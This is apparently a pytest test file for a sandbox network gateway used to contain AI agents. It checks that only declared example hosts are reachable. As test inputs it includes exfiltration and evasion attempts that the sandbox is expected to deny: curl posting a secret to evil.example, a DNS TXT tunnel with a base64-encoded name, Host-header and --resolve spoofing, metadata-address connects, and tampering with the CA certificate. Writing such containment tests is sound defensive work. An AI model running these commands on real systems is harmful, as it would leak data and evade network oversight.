"""The network of a world, tried from inside: declared hosts answer, and there is nothing else."""

from __future__ import annotations

import asyncio
from typing import Any

import pytest

from sandbox.egress.gateway import Egress
from sandbox.enums import EffectAction
from sandbox.guest.relay import STREAMS
from sandbox.isolation.base import CallResult
from sandbox.scenario.network import HostData, HttpResponse
from tests.support.containers import Opener, Rig
from tests.support.polling import until

HOSTS = {
    "api.lumen.example": HostData(pages={"index.html": b"<h1>Lumen</h1>", "big": b"x" * 700_000}),
    "paste.example": HostData(reply=b"kept"),
    "intranet.example": HostData(
        routes={("GET", "/users"): HttpResponse(200, "text/plain", b"ada")}
    ),
}


@pytest.fixture
async def net(opener: Opener) -> Rig:
    """A container with a network."""
    return await opener(network=Egress(HOSTS))


def seen(result: CallResult, action: str = "request") -> list[dict[str, Any]]:
    """Return what the engine's end recorded in a call."""
    return [dict(e) for e in result.effects if e["source"] == "egress" and e["action"] == action]


@pytest.mark.parametrize("scheme", ["http", "https"])
async def test_curl_reaches_a_declared_host(net: Rig, scheme: str) -> None:
    """Name, connection and certificate are as curl expects them, and the body is on the record."""
    result = await net.shell_result(f"curl -sS -d iban=FR76 {scheme}://paste.example/new?a=b")
    assert result.text == "exit code: 0\nstdout:\nkept"
    (request,) = seen(result)
    assert (request["target"], request["status"]) == (f"{scheme}://paste.example/new?a=b", "done")
    assert request["detail"]["body"] == "iban=FR76"
    assert {e["target"] for e in seen(result, "resolve")} == {"paste.example."}


async def test_python_reaches_a_declared_host(net: Rig) -> None:
    """getaddrinfo, urllib and Python's TLS find host, answer and certificate."""
    said = await net.python(
        "import socket, urllib.request as r\n"
        "print(socket.getaddrinfo('intranet.example', 80, type=socket.SOCK_STREAM)[0][4])\n"
        "print(r.urlopen('https://intranet.example/users').read())\n"
        "print(len(r.urlopen('https://api.lumen.example/big').read()))"
    )
    assert said == "('127.0.0.1', 80)\nb'ada'\n700000"


async def test_the_proxy_port_works_where_an_agent_sets_it(net: Rig) -> None:
    """Explicit proxying, with and without TLS."""
    result = await net.shell_result(
        "export http_proxy=http://127.0.0.1:3128 https_proxy=http://127.0.0.1:3128;"
        " curl -sS http://intranet.example/users; curl -sS https://intranet.example/users"
    )
    assert result.text == "exit code: 0\nstdout:\nadaada"
    assert [e["target"] for e in seen(result, "connect")] == ["intranet.example:443"]


@pytest.mark.parametrize(
    ("command", "action", "reason"),
    [
        ("curl -sS http://evil.example/", "resolve", "undeclared host"),
        ("curl -sS http://xn--pi-6kc.lumen.example/", "resolve", "undeclared host"),
        (
            "curl -sS --resolve evil.example:80:127.0.0.1 http://evil.example/",
            "request",
            "undeclared",
        ),
        (
            "curl -sS -k --resolve evil.example:443:127.0.0.1 https://evil.example/",
            "connect",
            "undecl",
        ),
        ("curl -sS -H 'Host: evil.example' http://paste.example/", "request", "undeclared host"),
        (
            "curl -sS -H 'Host: intranet.example' https://paste.example/",
            "request",
            "Host is another",
        ),
        ("curl -sS http://127.0.0.1/", "request", "an address (127.0.0.1)"),
        ("curl -sS -k https://127.0.0.1/", "connect", "no server name"),
        ("curl -sS -x http://127.0.0.1:3128 https://evil.example/", "connect", "undeclared host"),
        ("curl -sS -x http://127.0.0.1:3128 https://paste.example:22/", "connect", "a tunnel to"),
        (
            "curl -sS -x http://127.0.0.1:3128 -k https://1.2.3.4/",
            "connect",
            "an address (1.2.3.4)",
        ),
        (
            "curl -sS -x http://127.0.0.1:3128 http://evil.example/ -d secret",
            "request",
            "undeclared",
        ),
        (
            "python3 -c 'import socket; socket.gethostbyname(\"c2VjcmV0.evil.example\")'",
            "resolve",
            "undeclared host",
        ),
    ],
)
async def test_nothing_else_is_reached(net: Rig, command: str, action: str, reason: str) -> None:
    """Other names, addresses and disagreeing ones are refused, and the record says why."""
    result = await net.shell_result(command)
    denied = [e for e in seen(result, action) if e["status"] == "denied"]
    assert denied, result.effects
    assert all(e["detail"]["reason"].startswith(reason) for e in denied)


TUNNEL = """
import socket
name = b"".join(bytes([len(p)]) + p for p in NAME.encode().split(b".")) + bytes(1)
question = bytes.fromhex("123401000001000000000000") + name + bytes.fromhex("00100001")
s = socket.socket(type=socket.SOCK_DGRAM)
s.settimeout(5)
s.sendto(question, ("127.0.0.1", 53))
print(s.recv(512)[3] & 15)
"""


@pytest.mark.parametrize(("name", "code"), [("c2VjcmV0.evil.example", 3), ("paste.example", 5)])
async def test_dns_is_no_tunnel(net: Rig, name: str, code: int) -> None:
    """A TXT question is refused, of a declared name too, and the whole name is on the record."""
    result = await net.python_result(TUNNEL.replace("NAME", repr(name)))
    assert result.text == f"exit code: 0\nstdout:\n{code}"
    (asked,) = seen(result, "resolve")
    assert (asked["target"], asked["status"]) == (f"{name}.", "denied")
    assert asked["detail"]["type"] == "TXT"


_NO_WAY = {"docker": {"101"}, "gvisor": {"101", "113"}, "bubblewrap": {"101"}}
"""ENETUNREACH; releases of gVisor differ, and some say EHOSTUNREACH where they have no route."""


@pytest.mark.parametrize("where", ["1.2.3.4:80", "169.254.169.254:80", "8.8.8.8:53"])
async def test_no_address_is_reached_directly(net: Rig, where: str) -> None:
    """There is no way out of loopback: the kernel itself knows none."""
    host, port = where.split(":")
    said = await net.python(
        f"import socket\ns = socket.socket(); s.settimeout(3)\nprint(s.connect_ex(({host!r}, {port})))"
    )
    assert said in _NO_WAY[net.backend.name]


async def test_another_port_is_closed(net: Rig) -> None:
    """A declared host has no other ports."""
    result = await net.shell_result("curl -sS http://paste.example:8080/")
    assert "exit code: 7" in result.text


async def test_the_agent_cannot_take_a_port_of_the_guest(net: Rig) -> None:
    """The guest was there first, and nothing can be bound beside it."""
    said = await net.python(
        "import socket\n"
        "for kind, port in ((1, 80), (1, 443), (1, 53), (2, 53), (1, 3128)):\n"
        "    for address in ('127.0.0.1', '0.0.0.0'):\n"
        "        s = socket.socket(type=kind)\n"
        "        for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT):\n"
        "            s.setsockopt(socket.SOL_SOCKET, option, 1)\n"
        "        try:\n"
        "            s.bind((address, port)); s.listen() if kind == 1 else None; print('bound', address, port)\n"
        "        except OSError as error:\n"
        "            print(error.errno in (13, 98))"
    )
    assert set(said.splitlines()) == {"True"}


async def test_the_agent_cannot_change_the_certificate(net: Rig) -> None:
    """It may read it; file and folder are the guest's."""
    said = await net.shell(
        "cat $SSL_CERT_FILE | head -1; echo x > $SSL_CERT_FILE; rm -f $SSL_CERT_FILE; touch /run/world/x"
    )
    assert "BEGIN CERTIFICATE" in said
    assert "Permission denied" in said
    assert await net.shell("curl -sS https://paste.example/") == "exit code: 0\nstdout:\nkept"


async def test_what_happens_between_calls_belongs_to_the_next(opener: Opener) -> None:
    """A process that is left running reaches a host after its call; the next result has it, as late."""
    egress = Egress(HOSTS)
    net = await opener(network=egress)
    first = await net.shell_result(
        "(sleep 1; curl -s -d late http://paste.example/) >/dev/null 2>&1 &"
    )
    assert seen(first) == []
    recorded = egress._context.log._effects
    await until(
        lambda: any(effect["action"] == EffectAction.REQUEST for effect in recorded),
        30,
        "the request came",
    )
    (request,) = seen(await net.shell_result("true"))
    assert (request["detail"]["body"], request["detail"]["late"]) == ("late", True)


CLIENTS = """
import asyncio
async def get():
    reader, writer = await asyncio.open_connection("127.0.0.1", 80)
    writer.write(b"GET /big HTTP/1.1\\r\\nHost: api.lumen.example\\r\\nConnection: close\\r\\n\\r\\n")
    answer = await reader.read(-1)
    writer.close()
    return answer.partition(b"\\r\\n\\r\\n")[2].count(b"x")
async def all():
    return set(await asyncio.gather(*(get() for _ in range(COUNT))))
print(asyncio.run(all()))
"""


async def test_many_clients_at_once_are_served(net: Rig) -> None:
    """More connections than the guest holds are served in turns.

    In one thread: where no cgroup bounds the memory, the address space of each process is bounded,
    and the stacks and heaps of many threads do not fit into it.
    """
    count = STREAMS + 16
    result = await net.call(
        "python.run", code=CLIENTS.replace("COUNT", str(count)), timeout_seconds=60, timeout=80
    )
    assert result.text == "exit code: 0\nstdout:\n{700000}"
    assert len(seen(result)) == count


async def test_a_container_bears_clients_that_only_hold_on(net: Rig) -> None:
    """Hundreds of connections that say nothing, and one that floods: calls still come back."""
    result = await net.call(
        "python.run",
        code=(
            "import socket, resource\n"
            "held = []\n"
            "for n in range(200):\n"
            "    s = socket.socket(); s.setblocking(False); s.connect_ex(('127.0.0.1', 80)); held.append(s)\n"
            "print(len(held))"
        ),
        timeout=60,
    )
    assert result.text == "exit code: 0\nstdout:\n200"
    assert await net.shell("curl -sS http://paste.example/") == "exit code: 0\nstdout:\nkept"


async def test_there_is_no_network_where_none_is_declared(rig: Rig) -> None:
    """No listener, no certificate, no name."""
    said = await rig.python(
        "import os, socket\n"
        "for port in (53, 80, 443, 3128): print(socket.socket().connect_ex(('127.0.0.1', port)))\n"
        "print('SSL_CERT_FILE' in os.environ, os.path.exists('/run/world/ca.pem'))\n"
        "try: socket.gethostbyname('paste.example')\n"
        "except OSError as error: print(type(error).__name__)"
    )
    assert said == "111\n111\n111\n111\nFalse False\ngaierror"


async def test_two_networks_do_not_meet(opener: Opener) -> None:
    """Each container has the hosts of its own run, and its own authority."""
    one, two = await asyncio.gather(
        opener(network=Egress({"one.example": HostData(reply=b"1")})),
        opener(network=Egress({"two.example": HostData(reply=b"2")})),
    )
    assert await one.shell("curl -sS https://one.example/") == "exit code: 0\nstdout:\n1"
    assert "exit code: 6" in await two.shell("curl -sS https://one.example/")
